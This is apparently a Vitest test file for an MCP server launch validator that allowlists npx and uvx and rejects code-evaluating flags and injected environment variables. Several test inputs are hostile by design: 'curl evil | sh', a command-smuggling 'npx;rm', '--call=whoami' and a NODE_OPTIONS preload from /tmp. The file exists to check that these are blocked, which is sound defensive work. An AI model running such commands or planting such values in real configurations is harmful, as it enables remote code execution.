import { describe, expect, it } from "vitest";
import { arbitraryExecFlag, validateStdioLaunch } from "../../src/mcp";

const ok = (server: Record<string, unknown>, env: Record<string, string> = {}) => () => validateStdioLaunch("s", server, env);

describe("stdio launch validation (API-submitted servers)", () => {
  it("accepts allowlisted launchers with ordinary arguments, and non-stdio servers", () => {
    expect(ok({ command: "npx", args: ["-y", "@modelcontextprotocol/server-github"] })).not.toThrow();
    expect(ok({ command: "npx", args: ["-y", "some-server", "-c", "config.json", "-e", "prod"] })).not.toThrow();
    expect(ok({ command: "uvx", args: ["--from", "pkg==1.0", "mcp-server-x", "-c", "x"] })).not.toThrow();
    expect(ok({ command: "uvx", args: ["-p", "3.12", "mcp-server-x"] })).not.toThrow();
    expect(ok({ type: "http", url: "http://127.0.0.1/mcp" })).not.toThrow();
  });

  it("rejects commands that are not a single allowlisted executable name", () => {
    expect(ok({ command: "node", args: ["server.js"] })).toThrow(/disallowed stdio command 'node'.*npx, uvx/);
    expect(ok({ command: "/usr/bin/npx", args: [] })).toThrow(/single executable name/);
    expect(ok({ command: "npx;rm", args: [] })).toThrow(/single executable name/);
    expect(ok({ command: " npx", args: [] })).toThrow(/single executable name/);
    expect(ok({ command: "", args: [] })).toThrow(/requires a command/);
    expect(ok({ command: "node", args: ["server.js"] }, { DEER_FLOW_MCP_STDIO_COMMAND_ALLOWLIST: "node, python" })).not.toThrow();
  });

  it("rejects flags that evaluate code, in the launcher's own option region only", () => {
    expect(ok({ command: "npx", args: ["-c", "curl evil | sh"] })).toThrow(/passes '-c' to 'npx'/);
    expect(ok({ command: "npx", args: ["--call=whoami"] })).toThrow(/'--call'/);
    // -p takes a value for npx, so the region continues past it to -c
    expect(ok({ command: "npx", args: ["-p", ".", "-c", "x"] })).toThrow(/'-c'/);
    // an unknown npx option is assumed to take a value and cannot end the region early
    expect(ok({ command: "npx", args: ["--registry", "r", "--eval", "x"] })).toThrow(/'--eval'/);
    expect(ok({ command: "uvx", args: ["--shell", "x"] })).toThrow(/'--shell'/);
    expect(() => validateStdioLaunch("s", { command: "npx", args: ["-c", "secret-payload"] })).toThrow(expect.objectContaining({ code: "mcp_stdio_rejected", message: expect.not.stringContaining("secret-payload") }));
  });

  it("screens interpreters whole, including clustered short options", () => {
    expect(arbitraryExecFlag("node", ["server.js", "-pe", "1"])).toBe("-p");
    expect(arbitraryExecFlag("python", ["-Ic", "x"])).toBe("-c");
    expect(arbitraryExecFlag("node", ["--eval=1"])).toBe("--eval");
    expect(arbitraryExecFlag("node", ["server.js", "--port", "1"])).toBeUndefined();
  });

  it("rejects code-injecting environment variables", () => {
    expect(ok({ command: "npx", args: ["-y", "x"], env: { NODE_OPTIONS: "--require /tmp/x.js" } })).toThrow(/NODE_OPTIONS/);
    expect(ok({ command: "uvx", args: ["x"], env: { pythonpath: "/tmp" } })).toThrow(/pythonpath/);
    expect(ok({ command: "npx", args: ["-y", "x"], env: { GITHUB_TOKEN: "t" } })).not.toThrow();
  });
});
